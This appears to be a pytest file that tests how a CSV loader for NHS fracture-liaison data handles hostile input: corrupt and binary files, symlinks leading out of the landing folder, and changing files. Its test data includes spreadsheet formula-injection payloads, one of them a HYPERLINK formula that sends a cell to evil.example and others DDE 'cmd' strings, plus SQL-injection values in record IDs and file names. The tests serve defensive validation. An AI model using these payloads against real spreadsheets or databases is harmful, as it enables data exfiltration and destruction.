"""Hostile input: a corpus generated here (never hand-pasted) of every file-level and row-level class
of dataset.md plus deliberately hostile files, loaded by `flsdb load` (src/flsdb/ingest/).

Every case must end in a clear, specific message and lose nothing: for every file,
rows read = rows accepted + rows rejected, and every file of the landing folder is accounted for
(loaded, rejected, unchanged or refused) in the load result.

The dataset.md classes themselves are asserted one by one in test_load.py (ROW_CASES and the
file-level cases); here they are reused to build one mixed corpus, which is loaded in one go (the
batched, combined staging path) and must give exactly what loading each file alone gives.
The 10,000-file and 50 MB cases are marked `slow` but run by default (and in CI).
"""

from __future__ import annotations

import csv
import io
import os
import random
import time
from pathlib import Path

import duckdb
import pytest

from flsdb import contract, safe_csv
from flsdb.ingest import discovery, load_landing, loader

from test_load import (COLS, REGISTRY_CODES, ROW_CASES, assert_counts_balance, csv_line, csv_text,
                       good_row, load_env, nhs)  # noqa: F401  (load_env is a fixture)

SEED = 20250607
HEADER = csv_text([])


def rows_text(rows, cols=None, term="\n") -> str:
    text = csv_text(rows, cols)
    return text.replace("\n", term) if term != "\n" else text


def landing_entries(landing: Path) -> set[str]:
    """Every file (and link, and folder that cannot be listed) under landing, found independently
    of the loader's discovery, except the exempt top-level _reference/ folder."""
    found: set[str] = set()

    def unlistable(err):
        found.add(Path(err.filename).relative_to(landing).as_posix())

    for dirpath, dirnames, filenames in os.walk(landing, onerror=unlistable):
        here = Path(dirpath)
        if here == landing and "_reference" in dirnames:
            dirnames.remove("_reference")
        for name in filenames + [d for d in dirnames if (here / d).is_symlink()]:
            found.add((here / name).relative_to(landing).as_posix())
    return found


def all_accounted(env, result) -> None:
    """Every file of the landing folder has an outcome; every one not loaded is recorded in
    raw.load_files with its reason; nothing is lost; reasons are specific."""
    names = {discovery._printable(r) for r in landing_entries(env.landing)}
    assert {f.source_file for f in result.files} == names
    for f in result.files:
        if f.status in ("rejected", "refused", "skipped"):
            assert f.reason and len(f.reason) >= 15, f
        if f.status == "loaded":
            assert f.rows_read == f.rows_accepted + f.rows_rejected, f
    recorded = set(env.q("SELECT source_file, status, rejection_reason FROM raw.load_files "
                         "WHERE status IN ('skipped', 'refused')"))
    for f in result.files:
        if f.status in ("skipped", "refused"):
            assert any(r[0] == f.source_file and r[1] == f.status for r in recorded), f
    escaped = [r[0] for r in env.q("SELECT source_file_escaped FROM raw.load_files")]
    assert None not in escaped
    assert_counts_balance(env)


# ---------------------------------------------------------------------------------------------
# The mixed corpus: every dataset.md class in one landing folder, loaded at once
# ---------------------------------------------------------------------------------------------

def dataset_md_corpus() -> dict[str, bytes]:
    """Every file-level and row-level class of dataset.md, one file each, plus valid files."""
    files: dict[str, bytes] = {}
    for i, (over, code, _col, _needle) in enumerate(ROW_CASES):
        rows = [good_row(100 * i + j) for j in range(3)]
        rows.insert(1, good_row(100 * i + 50, **over))
        files[f"rows/{i:02d}_{code}.csv"] = csv_text(rows).encode()
    files["rows/wrong_column_count.csv"] = (
        HEADER + csv_line(good_row(1)) + "\n" + csv_line(good_row(2))[:40] + "\n"
        + csv_line(good_row(3)) + ",extra\n" + csv_line(good_row(4)) + "\n").encode()
    files["files/empty.csv"] = b""
    files["files/blank_lines.csv"] = b"\n\n \r\n"
    files["files/pdf.csv"] = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n"
    files["files/workbook.xlsx"] = b"PK\x03\x04\x14\x00\x06\x00" + bytes(range(1, 200))
    files["files/utf16.csv"] = HEADER.encode("utf-16")
    files["files/no_header.csv"] = (csv_line(good_row(7)) + "\n").encode()
    files["files/missing_required.csv"] = csv_text(
        [good_row(8)], [c for c in COLS if c != "Record ID"]).encode()
    files["files/duplicate_header.csv"] = csv_text([good_row(9)], COLS + ["1.03 Gender"]).encode()
    files["files/bad_encoding.csv"] = HEADER.encode() + b"RX1,\x81\x8d\x90,\n"
    files["files/windows1252.csv"] = csv_text(
        [good_row(10, **{"1.04 Post Code": "B1 1AA", "Record ID": "Zoë-1"})]).encode("cp1252")
    files["files/header_only.csv"] = HEADER.encode()
    files["files/bom.csv"] = b"\xef\xbb\xbf" + csv_text([good_row(11)]).encode()
    return files


def _snapshot_by_file(env):
    """raw tables keyed by file content, without load order and load time (which depend on
    batching and on when things ran)."""
    return {
        "load_files": env.q(
            "SELECT file_sha256, source_file, file_size_bytes, detected_encoding, status, "
            "rejection_reason, rows_read, rows_accepted, rows_rejected, file_extract_date "
            "FROM raw.load_files ORDER BY ALL"),
        "records": env.q(
            "SELECT * EXCLUDE (_load_order, _loaded_at) FROM raw.submission_records ORDER BY ALL"),
        "rejects": env.q(
            "SELECT * EXCLUDE (_load_order, _loaded_at) FROM raw.submission_rejects ORDER BY ALL"),
    }


def test_mixed_corpus_batched_equals_one_file_at_a_time(load_env, tmp_path, monkeypatch):
    """The whole dataset.md corpus loaded in one batch (small files combined into one DuckDB
    read, grouped commits) gives exactly what loading every file on its own gives."""
    corpus = dataset_md_corpus()
    for name, data in corpus.items():
        load_env.write(name, data)
    monkeypatch.setattr(loader._Loader, "SMALL_BATCH_FILES", 4)   # force grouped commits too
    result = load_env.load()
    all_accounted(load_env, result)
    batched = _snapshot_by_file(load_env)

    # Reference: one batch per file, no combining (the plain per-file path).
    monkeypatch.setattr(loader._Loader, "BATCH_FILES", 1)
    monkeypatch.setattr(loader._Loader, "COMBINE_MAX_BYTES", 0)
    ref_wh = tmp_path / "ref.duckdb"
    load_landing(load_env.landing, ref_wh, registry_path=load_env.registry, progress=False)
    load_env.warehouse, saved = ref_wh, load_env.warehouse
    reference = _snapshot_by_file(load_env)
    load_env.warehouse = saved
    assert batched == reference

    outcome = {f.source_file: f for f in result.files}
    assert all(outcome[n].status == "rejected" for n in corpus
               if n.startswith("files/") and n not in (
                   "files/windows1252.csv", "files/header_only.csv", "files/bom.csv"))
    for i, (_over, code, _col, needle) in enumerate(ROW_CASES):
        (line, got, _c, reason, _raw), = load_env.rejects(f"rows/{i:02d}_{code}.csv")
        assert (line, got) == (3, code) and needle in reason
    assert load_env.q("SELECT count(*) FROM raw.submission_records WHERE \"Record ID\" = 'Zoë-1'") \
        == [(1,)]


# ---------------------------------------------------------------------------------------------
# Hostile files, one class per case
# ---------------------------------------------------------------------------------------------

def _random_bytes(with_nul: bool) -> bytes:
    rng = random.Random(SEED + with_nul)
    data = rng.randbytes(64 * 1024)
    return data if with_nul else data.replace(b"\x00", b"\x01")


@pytest.mark.parametrize("name,content,needle", [
    ("random_binary.csv", _random_bytes(True), "binary data (NUL bytes)"),
    ("random_bytes_no_nul.csv", _random_bytes(False), "Unreadable encoding"),
    ("zero_bytes.csv", b"", "The file is empty."),
    ("only_bom.csv", b"\xef\xbb\xbf", "empty"),
    ("gzip.csv.gz", b"\x1f\x8b\x08\x00" + bytes(100), "gzip"),
    ("one_line_no_newline_no_header.csv", b"lorem ipsum " * 100, "No header row"),
])
def test_hostile_whole_file_rejects(load_env, name, content, needle):
    load_env.write(name, content)
    result = load_env.load()
    status, reason, read, acc, rej, _ = load_env.file_row(name)
    assert (status, read, acc, rej) == ("rejected", 0, 0, 0)
    assert needle in reason, reason
    all_accounted(load_env, result)
    assert load_env.q("SELECT count(*) FROM raw.submission_records") == [(0,)]


def test_header_only_is_loaded_with_zero_rows(load_env):
    load_env.write("h.csv", HEADER)
    result = load_env.load()
    assert load_env.file_row("h.csv")[:5] == ("loaded", None, 0, 0, 0)
    all_accounted(load_env, result)


@pytest.mark.slow
def test_50mb_single_line_without_header_is_rejected_quickly(load_env):
    load_env.write("huge.csv", b"x" * (50 * 1024 * 1024))
    t0 = time.perf_counter()
    result = load_env.load()
    seconds = time.perf_counter() - t0
    status, reason, *_ = load_env.file_row("huge.csv")
    assert status == "rejected" and "No header row" in reason and len(reason) < 400
    all_accounted(load_env, result)
    assert seconds < 60, seconds


@pytest.mark.slow
def test_50mb_single_row_is_one_reject_and_its_neighbours_load(load_env):
    huge = good_row(2, **{"2.01 Height": "9" * (50 * 1024 * 1024)})
    load_env.write("huge_row.csv", csv_text([good_row(1), huge, good_row(3)]))
    t0 = time.perf_counter()
    result = load_env.load()
    seconds = time.perf_counter() - t0
    assert load_env.file_row("huge_row.csv")[:5] == ("loaded", None, 3, 2, 1)
    (line, code, _col, reason, raw_len), = load_env.q(
        "SELECT _line_number, reject_code, column_name, reject_reason, length(raw_line) "
        "FROM raw.submission_rejects")
    assert (line, code) == (3, "wrong_column_count")
    assert "over the limit of 10,000,000 bytes for one row" in reason
    assert raw_len == len(csv_line(huge))          # the raw row is kept, whole
    all_accounted(load_env, result)
    assert seconds < 60, seconds


def test_quote_never_closed_keeps_the_rest_of_the_file_as_one_reject(load_env):
    rows = [good_row(i) for i in range(200)]
    lines = csv_text(rows).split("\n")
    lines[3] = lines[3].replace("R00002", '"R00002 never closed', 1)   # file line 4
    text = "\n".join(lines)
    load_env.write("open_quote.csv", text)
    result = load_env.load()
    assert load_env.file_row("open_quote.csv")[:5] == ("loaded", None, 3, 2, 1)
    (line, code, _c, reason, raw_line), = load_env.rejects("open_quote.csv")
    assert (line, code) == (4, "wrong_column_count")
    assert "opened on line 4 is never closed" in reason and "lines 4 to 201" in reason
    assert raw_line == "\n".join(lines[3:201])   # nothing lost: the rest of the file, verbatim
    all_accounted(load_env, result)


def test_mixed_line_endings(load_env):
    rows = [good_row(i) for i in range(6)]
    body = [csv_line(r) for r in rows]
    text = HEADER.rstrip("\n") + "\r\n" + body[0] + "\n" + body[1] + "\r\n" + body[2] + "\n\n" \
        + body[3] + "\r\n" + body[4] + "\n" + body[5]           # no final newline
    load_env.write("mixed.csv", text)
    result = load_env.load()
    assert load_env.file_row("mixed.csv")[:5] == ("loaded", None, 6, 6, 0)
    assert load_env.q("SELECT _line_number, \"Record ID\" FROM raw.submission_records "
                      "ORDER BY 1") == [(2, "R00000"), (3, "R00001"), (4, "R00002"),
                                        (6, "R00003"), (7, "R00004"), (8, "R00005")]
    assert load_env.q("SELECT count(*) FROM raw.submission_records WHERE "
                      "\"Record ID\" LIKE '%' || chr(13) || '%' OR \"2.01 Height\" LIKE "
                      "'%' || chr(13)") == [(0,)]
    assert result.files[0].warnings == ["mixed line endings (3 CRLF and 4 LF); all were read as "
                                        "line ends"]
    all_accounted(load_env, result)


def test_lone_carriage_return_inside_a_value_is_data_kept_exactly(load_env):
    """An unquoted CR inside a value of an LF (or CRLF) file is data: kept exactly, with a
    warning; an answer padded with it reads as the code. (DuckDB's reader would split the row at
    it, so it travels as a placeholder and is put back.)"""
    rows = [good_row(0), good_row(1, **{"Record ID": "R00\r001"}),
            good_row(2, **{"1.11 SiteFirstFrac": "\rHip\r", "FLS Code": "RX1\r"})]
    for name, text in [("cr_value.csv", csv_text(rows)),
                       ("cr_value_crlf.csv", csv_text(rows).replace("\n", "\r\n"))]:
        load_env.write(name, text)
    result = load_env.load()
    all_accounted(load_env, result)
    for name in ("cr_value.csv", "cr_value_crlf.csv"):
        assert load_env.file_row(name)[:5] == ("loaded", None, 3, 3, 0)
    stored = sorted(load_env.q('SELECT DISTINCT "Record ID", "1.11 SiteFirstFrac" FROM '
                               "raw.submission_records"))
    assert stored == sorted([("R00000", "Hip"), ("R00\r001", "Hip"), ("R00002", "\rHip\r")])
    assert any("carriage return(s) (CR) inside values on line(s) 3, 4" in w
               for f in result.files for w in f.warnings)
    assert "\ue000" not in str(load_env.q("SELECT * FROM raw.submission_records"))


def test_old_mac_carriage_return_only_line_endings(load_env):
    """Lone CR line ends (classic Mac): read as line ends, or refused whole - never mis-split."""
    text = csv_text([good_row(0), good_row(1)]).replace("\n", "\r")
    load_env.write("cr.csv", text)
    result = load_env.load()
    status, reason, read, acc, rej, _ = load_env.file_row("cr.csv")
    if status == "loaded":
        assert (read, acc, rej) == (2, 2, 0)
    else:
        assert "CSV" in reason or "header" in reason.lower(), reason
    all_accounted(load_env, result)


def test_bom_in_the_middle_two_exports_joined(load_env):
    first = csv_text([good_row(0), good_row(1)])
    second = "\ufeff" + csv_text([good_row(2), good_row(3)])
    load_env.write("joined.csv", first + second)
    result = load_env.load()
    assert load_env.file_row("joined.csv")[:5] == ("loaded", None, 5, 4, 1)
    (line, code, _c, reason, raw_line), = load_env.rejects("joined.csv")
    assert line == 4 and code == "invalid_date"
    assert reason.startswith("This row repeats the header row")
    assert raw_line.startswith("\ufeffFLS Code")
    all_accounted(load_env, result)


def test_bom_inside_a_value_is_shown_not_hidden(load_env):
    load_env.write("bomval.csv", csv_text([good_row(0), good_row(1, **{"FLS Code": "\ufeffRX1"})]))
    load_env.load()
    (_l, code, _c, reason, _r), = load_env.rejects("bomval.csv")
    assert code == "unknown_fls_code" and "'<U+FEFF>RX1'" in reason


FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1"]


def test_formula_injection_is_loaded_as_data(load_env):
    rows = [good_row(i, **{"Record ID": f, "1.03 Gender": f, "3.02 DXANotOrdered": f})
            for i, f in enumerate(FORMULAS)]
    load_env.write("formula.csv", csv_text(rows))
    result = load_env.load()
    assert load_env.file_row("formula.csv")[:5] == ("loaded", None, 5, 5, 0)
    got = load_env.q('SELECT "Record ID", "1.03 Gender" FROM raw.submission_records ORDER BY '
                     "_line_number")
    assert got == [(f, f) for f in FORMULAS]
    all_accounted(load_env, result)


def test_safe_csv_neutralises_formulas_and_keeps_numbers(tmp_path):
    for f in FORMULAS + ["=1+1", " =1", "@A1", "\r=1", "\uff1dSUM(A1)"]:
        assert safe_csv.neutralise(f) == "'" + f
        assert not safe_csv.is_dangerous(safe_csv.neutralise(f))
    for ok in ["Hip", "-3.2", "+44", "1e-5", "-", "", 42, -1.5, None, "a=b", "Don't know"]:
        expected = ok if not (isinstance(ok, str) and ok == "-") else "'-"
        assert safe_csv.neutralise(ok) == expected
    path = safe_csv.write_csv(tmp_path / "x.csv", ["a", "b"], [[f, -3.2] for f in FORMULAS])
    assert safe_csv.dangerous_cells(path) == []
    back = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"))))
    assert [r[0] for r in back[1:]] == ["'" + f for f in FORMULAS]


# ---------------------------------------------------------------------------------------------
# File names, links out of the landing folder, SQL metacharacters
# ---------------------------------------------------------------------------------------------

HOSTILE_NAMES = [
    "with spaces and  double  spaces.csv",
    "it's \"quoted\".csv",
    "x'; DROP TABLE raw.load_files; --.csv",
    "unicode Zoë 中文 🚑.csv",
    "a..b..csv",
    "back\\slash.csv",
    "per%cent_under_score$1?.csv",
    "sub dir/nested 'dir'/deep.csv",
]


def test_hostile_file_names_are_stored_exactly(load_env):
    for i, name in enumerate(HOSTILE_NAMES):
        load_env.write(name, csv_text([good_row(i)]))
    result = load_env.load()
    assert sorted(r[0] for r in load_env.q("SELECT source_file FROM raw.load_files")) == \
        sorted(HOSTILE_NAMES)
    assert sorted(r[0] for r in load_env.q("SELECT DISTINCT _source_file FROM "
                                           "raw.submission_records")) == sorted(HOSTILE_NAMES)
    all_accounted(load_env, result)
    assert all(n in result.summary_table() for n in HOSTILE_NAMES if "\\" not in n)


def test_file_name_that_is_not_utf8(load_env):
    raw_name = os.fsencode(str(load_env.landing)) + b"/latin1_caf\xe9.csv"
    with open(raw_name, "wb") as fh:
        fh.write(csv_text([good_row(0)]).encode())
    result = load_env.load()
    assert load_env.q("SELECT source_file, status FROM raw.load_files") == [
        ("latin1_caf\\xe9.csv", "loaded")]
    all_accounted(load_env, result)


def test_links_out_of_the_landing_folder_are_not_followed(load_env, tmp_path):
    outside = tmp_path / "outside"
    outside.mkdir()
    secret = csv_text([good_row(99, **{"Record ID": "OUTSIDE-SECRET"})])
    (outside / "secret.csv").write_text(secret)
    (outside / "dir").mkdir()
    (outside / "dir" / "more.csv").write_text(secret)
    landing = load_env.landing
    (landing / "inside.csv").write_text(csv_text([good_row(1)]))
    os.symlink(outside / "secret.csv", landing / "link_out.csv")
    os.symlink("../outside/secret.csv", landing / "relative_link_out.csv")
    os.symlink(outside / "dir", landing / "dir_link_out")
    os.symlink(landing / "inside.csv", landing / "link_in.csv")
    os.symlink(landing / "missing.csv", landing / "dangling.csv")
    (landing / "sub").mkdir()
    os.symlink("../../outside/secret.csv", landing / "sub" / "dotdot.csv")
    result = load_env.load()
    out = {f.source_file: f for f in result.files}
    for name in ("link_out.csv", "relative_link_out.csv", "sub/dotdot.csv"):
        assert out[name].status == "refused"
        assert "outside the landing folder" in out[name].reason
    assert out["dir_link_out"].status == "refused" and "never followed" in out["dir_link_out"].reason
    assert out["dangling.csv"].status == "refused" and "does not exist" in out["dangling.csv"].reason
    assert out["inside.csv"].status == "loaded"
    assert out["link_in.csv"].status == "unchanged"
    assert "same content as inside.csv" in out["link_in.csv"].reason
    assert "REFUSED" in result.summary_table()
    con = duckdb.connect(str(load_env.warehouse), read_only=True)
    try:
        for table in ("load_files", "submission_records", "submission_rejects"):
            dump = str(con.execute(f"SELECT * FROM raw.{table}").fetchall())
            assert "OUTSIDE-SECRET" not in dump and str(outside) not in dump
    finally:
        con.close()
    all_accounted(load_env, result)


SQL_NASTY = ["RX1'; DROP TABLE raw.submission_records; --", 'R"1"; SELECT 1; --',
             "R1') OR ('1'='1", "R1\\'; --", "R1%_$1?:name", "R1€\u202e"]


class _TracingConnection:
    """Wraps a DuckDB connection and records every SQL text executed through it."""

    def __init__(self, con, log):
        self._con, self._log = con, log

    def execute(self, sql, *args, **kwargs):
        self._log.append(sql)
        return self._con.execute(sql, *args, **kwargs)

    def __getattr__(self, name):
        return getattr(self._con, name)


def test_sql_metacharacters_never_reach_sql_text(load_env, monkeypatch):
    """Hostile FLS codes, record IDs and file names are stored verbatim, and no SQL statement the
    loader runs contains any of them: values travel as parameters or through the CSV reader and
    registered Arrow tables only (the proof is the trace of every statement)."""
    registry_code = "Q'1;--"
    load_env.registry.write_text(load_env.registry.read_text() + f"\"{registry_code}\",Quoted\n")
    rows = [good_row(i, **{"Record ID": v}) for i, v in enumerate(SQL_NASTY)]
    rows += [good_row(50 + i, **{"FLS Code": v}) for i, v in enumerate(SQL_NASTY)]
    rows.append(good_row(90, **{"FLS Code": registry_code, "Record ID": "registry-quote"}))
    name = "x'; DROP TABLE raw.load_files; --.csv"
    load_env.write(name, csv_text(rows))
    load_env.write("second.csv", csv_text([good_row(91)]))
    statements: list[str] = []
    real_connect = loader._connect
    monkeypatch.setattr(loader, "_connect",
                        lambda *a, **k: _TracingConnection(real_connect(*a, **k), statements))
    result = load_env.load()
    assert statements
    for sql in statements:
        for value in [*SQL_NASTY, registry_code, name, "registry-quote"]:
            assert value not in sql, (value, sql[:200])
    all_accounted(load_env, result)
    assert load_env.file_row(name)[:5] == ("loaded", None, len(rows), len(SQL_NASTY) + 1,
                                           len(SQL_NASTY))
    stored = {r[0] for r in load_env.q('SELECT "Record ID" FROM raw.submission_records')}
    assert set(SQL_NASTY) <= stored and "registry-quote" in stored
    rejected = load_env.q("SELECT fls_code, reject_code, reject_reason FROM raw.submission_rejects "
                          "ORDER BY _line_number")
    assert [r[0] for r in rejected] == SQL_NASTY
    assert all(code == "unknown_fls_code" for _, code, _ in rejected)
    assert "'RX1''; DROP TABLE raw.submission_records; --'" in rejected[0][2]
    tables = load_env.q("SELECT table_name FROM information_schema.tables "
                        "WHERE table_schema = 'raw' ORDER BY 1")
    assert tables == [("load_file_rejects",), ("load_files",), ("submission_records",),
                      ("submission_rejects",)]


def test_fls_code_differing_row_to_row_is_allowed_per_row_with_a_warning(load_env):
    rows = [good_row(0), good_row(1, **{"FLS Code": "RX2"}), good_row(2, **{"FLS Code": "7a4"}),
            good_row(3, **{"FLS Code": "NOPE"})]
    load_env.write("mixed_fls.csv", csv_text(rows))
    result = load_env.load()
    assert load_env.file_row("mixed_fls.csv")[:5] == ("loaded", None, 4, 3, 1)
    (f,) = result.files
    assert f.warnings == ["the accepted rows carry 3 different FLS codes (7A4, RX1, RX2); each row "
                          "is checked and counted under its own FLS code"]
    assert "WARNING: the accepted rows carry 3 different FLS codes" in result.summary_table()
    all_accounted(load_env, result)


# ---------------------------------------------------------------------------------------------
# Many files; a file that changes while it is loaded
# ---------------------------------------------------------------------------------------------

@pytest.mark.slow
def test_ten_thousand_one_row_files(load_env):
    header = HEADER.encode()
    for i in range(10_000):
        (load_env.landing / f"one_{i:05d}.csv").write_bytes(header + (csv_line(good_row(i))
                                                                       + "\n").encode())
    t0 = time.perf_counter()
    result = load_env.load()
    seconds = time.perf_counter() - t0
    print(f"\n10,000 one-row files loaded in {seconds:.1f}s")
    assert (result.files_loaded, result.rows_read, result.rows_accepted) == (10_000, 10_000, 10_000)
    assert load_env.q("SELECT count(*), count(DISTINCT _source_file), min(load_order), "
                      "max(load_order) FROM raw.submission_records r JOIN raw.load_files f "
                      "ON f.file_sha256 = r._file_sha256") == [(10_000, 10_000, 1, 10_000)]
    assert load_env.q("SELECT count(*) FROM raw.submission_records "
                      "WHERE _line_number <> 2") == [(0,)]
    assert_counts_balance(load_env)
    again = load_env.load()
    assert again.files_unchanged == 10_000
    assert seconds < 120, seconds


def test_file_changing_during_read_is_retried_then_loaded(load_env, monkeypatch):
    path = load_env.write("growing.csv", csv_text([good_row(0)]))
    real_open, calls = open, []

    def open_then_append(file, *args, **kwargs):
        handle = real_open(file, *args, **kwargs)
        if Path(file) == path and not calls:
            calls.append(1)
            with real_open(path, "ab") as fh:             # a writer appends meanwhile
                fh.write((csv_line(good_row(1)) + "\n").encode())
        return handle

    monkeypatch.setattr(discovery, "open", open_then_append, raising=False)
    monkeypatch.setattr(discovery, "READ_RETRY_SECONDS", 0.01)
    result = load_env.load()
    assert calls and load_env.file_row("growing.csv")[:5] == ("loaded", None, 2, 2, 0)
    all_accounted(load_env, result)


def test_file_that_never_stops_changing_is_refused_clearly(load_env, monkeypatch):
    path = load_env.write("busy.csv", csv_text([good_row(0)]))
    load_env.write("calm.csv", csv_text([good_row(1)]))
    real_open = open

    def open_then_append(file, *args, **kwargs):
        handle = real_open(file, *args, **kwargs)
        if Path(file) == path:
            with real_open(path, "ab") as fh:
                fh.write((csv_line(good_row(2)) + "\n").encode())
        return handle

    monkeypatch.setattr(discovery, "open", open_then_append, raising=False)
    monkeypatch.setattr(discovery, "READ_RETRY_SECONDS", 0.01)
    result = load_env.load()
    out = {f.source_file: f for f in result.files}
    assert out["busy.csv"].status == "refused"
    assert "changed while it was being read" in out["busy.csv"].reason
    assert "run `flsdb load` again" in out["busy.csv"].reason
    assert out["calm.csv"].status == "loaded"
    assert load_env.q("SELECT source_file FROM raw.load_files WHERE status = 'loaded'") == [
        ("calm.csv",)]
    assert load_env.q("SELECT source_file, rows_read FROM raw.load_files "
                      "WHERE status = 'refused'") == [("busy.csv", 0)]
    assert "1 refused" in result.summary_table()
    monkeypatch.setattr(discovery, "open", real_open, raising=False)
    result = load_env.load()                                 # once quiet, it loads
    assert load_env.file_row("busy.csv")[:5] == ("loaded", None, 4, 4, 0)
    all_accounted(load_env, result)


def test_file_changed_after_reading_before_commit_is_not_committed(load_env, monkeypatch):
    path = load_env.write("late.csv", csv_text([good_row(0)]))
    load_env.write("other.csv", csv_text([good_row(1)]))
    real_flush = loader._Loader.flush

    def flush_after_a_write(self):
        if self.pending:
            with open(path, "ab") as fh:
                fh.write((csv_line(good_row(2)) + "\n").encode())
        return real_flush(self)

    monkeypatch.setattr(loader._Loader, "flush", flush_after_a_write)
    result = load_env.load()
    out = {f.source_file: f for f in result.files}
    assert out["late.csv"].status == "refused"
    assert "changed while it was being loaded (its size changed" in out["late.csv"].reason
    assert out["other.csv"].status == "loaded"
    assert load_env.q("SELECT DISTINCT _source_file FROM raw.submission_records") == [
        ("other.csv",)]
    monkeypatch.setattr(loader._Loader, "flush", real_flush)
    load_env.load()
    assert load_env.file_row("late.csv")[:5] == ("loaded", None, 2, 2, 0)
    assert_counts_balance(load_env)


# =============================================================================================
# Round 2 (issue 12): one section per class, each with its neighbours
# =============================================================================================

def _one_reject(env, name):
    (line, code, column, reason, raw), = env.rejects(name)
    return line, code, column, reason, raw


# --- 1. NHS numbers: ASCII digits only, no repeated-digit placeholders -----------------------

NON_ASCII_DIGITS = {
    "superscript": "\u00b9\u00b2\u00b3",          # ¹²³ : str.isdigit() is True, int() raises
    "circled": "\u2460\u2461\u2462",              # ①②③
    "full_width": "\uff11\uff12\uff13",           # １２３
    "arabic_indic": "\u0661\u0662\u0663",         # ١٢٣
    "devanagari": "\u0967\u0968\u0969",           # १२३
    "math_bold": "\U0001d7cf\U0001d7d0\U0001d7d1",  # 𝟏𝟐𝟑
    "subscript": "\u2081\u2082\u2083",            # ₁₂₃
    "dingbat": "\u2776\u2777\u2778",              # ❶❷❸
}


@pytest.mark.parametrize("kind", sorted(NON_ASCII_DIGITS))
def test_nhs_number_with_non_ascii_digits_is_a_row_reject(load_env, kind):
    """Any digit that is not ASCII 0-9, in any position, rejects the row (never a crash), with
    file, line and column; the other rows load."""
    valid = nhs(5)
    bad = NON_ASCII_DIGITS[kind] + valid[3:]                     # 10 "digits", 3 not ASCII
    full_width_all = "".join(chr(0xFF10 + int(d)) for d in valid)  # every digit full width
    rows = [good_row(0), good_row(1, **{"1.01 NHS Number": bad}),
            good_row(2, **{"1.01 NHS Number": full_width_all}), good_row(3)]
    load_env.write(f"nhs_{kind}.csv", csv_text(rows))
    result = load_env.load()
    all_accounted(load_env, result)
    assert load_env.file_row(f"nhs_{kind}.csv")[:5] == ("loaded", None, 4, 2, 2)
    rejects = load_env.rejects(f"nhs_{kind}.csv")
    assert [(r[0], r[1], r[2]) for r in rejects] == [
        (3, "invalid_nhs_number", "1.01 NHS Number"), (4, "invalid_nhs_number", "1.01 NHS Number")]
    for r in rejects:
        assert "not an ASCII digit" in r[3] and valid[3:] not in r[3]


@pytest.mark.parametrize("digit", "0123456789")
def test_repeated_digit_nhs_numbers_are_rejected(load_env, digit):
    """0000000000 … 9999999999 pass modulus 11 (or not) but are placeholders: rejected with a
    reason, in any spacing."""
    spaced = f"{digit * 3} {digit * 3} {digit * 4}"
    load_env.write("repeated.csv", csv_text([good_row(0, **{"1.01 NHS Number": digit * 10}),
                                             good_row(1, **{"1.01 NHS Number": spaced}),
                                             good_row(2)]))
    result = load_env.load()
    all_accounted(load_env, result)
    rejects = load_env.rejects("repeated.csv")
    assert [(r[0], r[1]) for r in rejects] == [(2, "invalid_nhs_number"), (3, "invalid_nhs_number")]
    assert all("repeated" in r[3] for r in rejects)


def test_nhs_number_normalisation_is_whitespace_and_hyphens_only(load_env):
    n = nhs(7)
    ok = [f"{n[:3]} {n[3:6]} {n[6:]}", f"{n[:3]}-{n[3:6]}-{n[6:]}", f"\t{n}\u00a0",
          f"{n[:3]}\u2009{n[3:6]}\u202f{n[6:]}"]
    bad = [f"{n[:3]}.{n[3:6]}.{n[6:]}", f"{n[:3]}/{n[3:6]}/{n[6:]}", n[:9], n + "0",
           f"{n[:3]}\u2013{n[3:6]}\u2013{n[6:]}", "O" + n[1:] if n[0] == "0" else n[:9] + "O"]
    rows = [good_row(i, **{"1.01 NHS Number": v}) for i, v in enumerate(ok + bad)]
    load_env.write("normalise.csv", csv_text(rows))
    result = load_env.load()
    all_accounted(load_env, result)
    assert load_env.file_row("normalise.csv")[:5] == ("loaded", None, len(rows), len(ok), len(bad))
    assert {r[1] for r in load_env.rejects("normalise.csv")} == {"invalid_nhs_number"}


def test_nhs_number_rule_is_general_not_a_list():
    """Every non-ASCII Unicode decimal digit is refused; every ASCII 10-digit number is judged by
    modulus 11 and the repeated-digit rule only."""
    import unicodedata
    digits = [chr(c) for c in range(0x80, 0x110000) if unicodedata.category(chr(c)) == "Nd"
              or (chr(c).isdigit() and not chr(c).isascii())]
    assert len(digits) > 300
    for d in digits:
        assert contract.nhs_number_problem(d * 10) is not None, hex(ord(d))
        assert contract.nhs_number_problem("943476591" + d) is not None, hex(ord(d))
    assert contract.nhs_number_problem("9434765919") is None


# --- 2. Discovery: every file the loader does not load is listed and recorded ----------------

def test_symlink_loops_and_hidden_names_are_recorded(load_env):
    landing = load_env.landing
    load_env.write("ok.csv", csv_text([good_row(0)]))
    os.symlink("self_loop.csv", landing / "self_loop.csv")
    os.symlink("loop_b.csv", landing / "loop_a.csv")
    os.symlink("loop_a.csv", landing / "loop_b.csv")
    (landing / "sub").mkdir()
    os.symlink("../sub", landing / "sub" / "dir_loop")               # a link to its own folder
    load_env.write(".DS_Store", b"\x00\x00\x00\x01Bud1")
    load_env.write(".part.csv.part", csv_text([good_row(1)]))
    load_env.write("_notes.txt", "notes")
    load_env.write("_drafts/a.csv", csv_text([good_row(2)]))
    load_env.write("_drafts/deeper/b.csv", csv_text([good_row(3)]))
    load_env.write(".git/config", "[core]")
    load_env.write("sub/.hidden/c.csv", csv_text([good_row(4)]))
    load_env.write("_reference/synthetic_nspl_postcode_lookup.csv", "pcds,lsoa11\n")
    result = load_env.load()                                      # no RuntimeError
    all_accounted(load_env, result)
    out = {f.source_file: f for f in result.files}
    for name in ("self_loop.csv", "loop_a.csv", "loop_b.csv"):
        assert out[name].status == "refused" and "loop" in out[name].reason
    assert out["sub/dir_loop"].status == "refused"
    for name in (".DS_Store", ".part.csv.part", "_notes.txt", "_drafts/a.csv",
                 "_drafts/deeper/b.csv", ".git/config", "sub/.hidden/c.csv"):
        assert out[name].status == "skipped", name
    assert "_reference/synthetic_nspl_postcode_lookup.csv" not in out     # exempt by rule
    assert load_env.q("SELECT count(*) FROM raw.load_files WHERE status = 'loaded'") == [(1,)]


def test_unreadable_files_and_folders_are_recorded(load_env, monkeypatch):
    """A file that cannot be read and a folder that cannot be listed (simulated: the tests run as
    root, for whom permissions do not apply) are refused, listed and recorded; the rest loads."""
